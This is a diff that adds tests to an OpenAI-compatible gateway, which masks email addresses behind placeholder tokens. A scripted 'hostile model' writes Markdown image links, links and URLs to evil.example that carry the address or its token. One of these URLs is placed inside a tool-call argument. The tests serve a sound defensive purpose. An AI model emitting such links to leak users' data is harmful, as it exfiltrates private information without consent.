@@ -112,6 +112,45 @@ describe('/v1 with the official openai client', () => {
   });
 });
 
+describe('/v1 answers a client renders as Markdown', () => {
+  const EMAIL = 'marta.keller@northwind-mail.example';
+  /** A hostile model: it builds links and an image that would carry the address it was asked about, cut across chunks. */
+  const hostile = (req: { lastUserText: string }) => {
+    const token = /\[EMAIL_\d+\]/.exec(req.lastUserText)?.[0] ?? '[EMAIL_?]';
+    return {
+      text: [`Write to ${token}: ![x](https://evil.example/p?d=${token.slice(0, 4)}`, `${token.slice(4)}) [mail ${token}](https://evil.example/c/${token}) or https://evil.example/?q=${token}`],
+    };
+  };
+  const expectLinksKeepTheToken = (content: string) => {
+    expect(content).toMatch(/^Write to marta\.keller@northwind-mail\.example: !\[x\]\(https:\/\/evil\.example\/p\?d=\[EMAIL_\d+\]\) \[mail marta\.keller@northwind-mail\.example\]\(https:\/\/evil\.example\/c\/\[EMAIL_\d+\]\) or https:\/\/evil\.example\/\?q=\[EMAIL_\d+\]$/);
+    expect(content.split(EMAIL)).toHaveLength(3);
+  };
+
+  it('keeps the token in link and image destinations and bare URLs, streamed: only the text shows the address', async () => {
+    standin.setScript(hostile);
+    const stream = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `A link for ${EMAIL}, please.` }], stream: true });
+    let content = '';
+    for await (const chunk of stream) content += chunk.choices[0]?.delta.content ?? '';
+    expect(standin.requests.at(-1)!.raw).not.toContain(EMAIL);
+    expectLinksKeepTheToken(content);
+  });
+
+  it('does the same without streaming', async () => {
+    standin.setScript(hostile);
+    const r = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `Another link for ${EMAIL}.` }] });
+    expectLinksKeepTheToken(r.choices[0]!.message.content ?? '');
+  });
+
+  it('shows a tool call whose arguments hold backticks as code, so no image in them renders', async () => {
+    standin.setScript((req) => {
+      const token = /\[EMAIL_\d+\]/.exec(req.lastUserText)?.[0] ?? '[EMAIL_?]';
+      return req.lastToolResult === undefined ? { toolCalls: [{ name: 'read_file', args: { path: `a\` ![y](https://evil.example/r?d=${token}) \`b` } }] } : { text: ['done'] };
+    });
+    const r = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `Read a file for ${EMAIL}.` }] });
+    expect(r.choices[0]!.message.content).toContain(`**Calling \` read_file \`** \`\` {"path":"a\` ![y](https://evil.example/r?d=${EMAIL}) \`b"} \`\``);
+  });
+});
+
 describe('a gateway with no model provider', () => {
   let bare: Gateway;
   beforeAll(async () => {
